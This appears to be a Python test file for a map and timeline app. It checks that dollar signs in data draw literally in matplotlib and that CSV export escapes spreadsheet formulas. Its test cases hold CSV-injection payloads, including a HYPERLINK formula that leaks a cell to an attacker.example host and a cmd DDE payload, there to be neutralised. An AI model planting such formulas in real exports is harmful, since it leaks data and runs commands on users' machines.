"""Text from data is drawn and written as text: `$` in images, formula characters in CSV."""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET
from datetime import date

import matplotlib
import pytest
from hypothesis import given, strategies as st
from matplotlib.backends.backend_agg import FigureCanvasAgg
from matplotlib.figure import Figure
from matplotlib.text import Text

from layers.engine.analysis import gazetteer
from layers.data.catalog import load_dataset
from layers.exports.export import parse_size, snapshot_bytes
from layers.render.render_static import render
from layers.text.text_safety import csv_safe, mpl_text, to_csv_bytes
from layers.engine.timeline import Timeline

GEM = "Gem trade: $5m a month"
MATH = "$x^2$"
BROKEN_MATH = "Fees: $x^^2$ and $\\frac$"  # mathtext that does not parse: an exception on the old code
TITLE = "Costs of $5m and $2m"  # two dollars in one string: mathtext on the old code


@pytest.fixture()
def dollar_state(make_dataset):
    def edit(layers):
        layers["dataset.json"]["title"] = TITLE
        town, village = layers["places.geojson"]
        town["properties"]["name"] = GEM
        village["properties"].update(name=MATH, kind="town", key=True)
        layers["sources.json"]["sources"][0]["title"] = BROKEN_MATH
        layers["factions.json"]["factions"][1]["name"] = "Khmer Rouge ($ and $)"
    return Timeline(load_dataset(make_dataset(edit))).state_on(date(1994, 3, 20))


def _svg_texts(svg: bytes) -> list[str]:
    """The strings an SVG draws as <text> (fonts kept as text, not outlines)."""
    root = ET.fromstring(svg)
    return ["".join(el.itertext()).strip() for el in root.iter() if el.tag.endswith("}text")]


def test_dollar_signs_in_data_are_drawn_literally_in_png_pdf_and_svg(dollar_state):
    for fmt in ("png", "pdf", "svg"):
        assert snapshot_bytes(dollar_state, fmt, size="800x450")  # no mathtext parse error
    with matplotlib.rc_context({"svg.fonttype": "none"}):
        texts = _svg_texts(snapshot_bytes(dollar_state, "svg", size="1600x900"))
    for literal in (TITLE, "Khmer Rouge ($ and $)"):  # (place labels have a halo: drawn as outlines)
        assert literal in texts, f"{literal!r} is not drawn as written: {texts}"
    assert any(BROKEN_MATH in t for t in texts)


def test_labels_are_drawn_as_written_and_keep_their_raw_name_as_gid(dollar_state):
    fig = render(dollar_state, parse_size("800x450"))
    # What matplotlib will draw for each text: (the string, whether it is mathtext).
    drawn = [t._preprocess_math(t.get_text()) for t in fig.findobj(Text)]
    # Labels carry their holder's short name (layers/render/symbology.py label_text) after the name as written.
    for literal in (GEM, MATH):
        assert any(text.startswith(literal) and not is_math for text, is_math in drawn), drawn
    assert not any(is_math for _, is_math in drawn)
    gids = {a.get_gid() for a in fig.axes[0].get_children() if a.get_gid()}
    assert any(g.startswith(f"label:{GEM}") for g in gids) and any(g.startswith(f"label:{MATH}") for g in gids)


@given(st.text(alphabet=st.sampled_from("$\\^_{}x a"), max_size=12))
def test_any_text_draws_as_itself(text):
    fig = Figure(figsize=(2, 1))
    artist = fig.text(0, 0, mpl_text(text))
    FigureCanvasAgg(fig).draw()  # never a mathtext error
    assert artist._preprocess_math(artist.get_text()) == (text, False)


@pytest.mark.parametrize("value, expected", [
    ('=HYPERLINK("https://attacker.example","x")', '\'=HYPERLINK("https://attacker.example","x")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("Pailin", "Pailin"), ("ប៉ៃលិន", "ប៉ៃលិន"), (-12.5, -12.5), (None, None),
])
def test_csv_safe(value, expected):
    assert csv_safe(value) == expected


def test_places_csv_has_no_formula(make_dataset):
    payload = '=HYPERLINK("https://attacker.example/?leak="&A1,"Pailin")'

    def edit(layers):
        layers["places.geojson"][0]["properties"].update(name=payload, alt_names=["@SUM(1+1)", "Town"])
    rows = list(csv.DictReader(io.StringIO(to_csv_bytes(gazetteer(load_dataset(make_dataset(edit)))).decode("utf-8"))))
    town = next(r for r in rows if r["id"] == "town")
    assert town["name"] == "'" + payload and town["alt_names"] == "'@SUM(1+1); Town"
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row.values())
    assert next(r for r in rows if r["id"] == "village")["lon"] == "103.5"  # numbers stay numbers
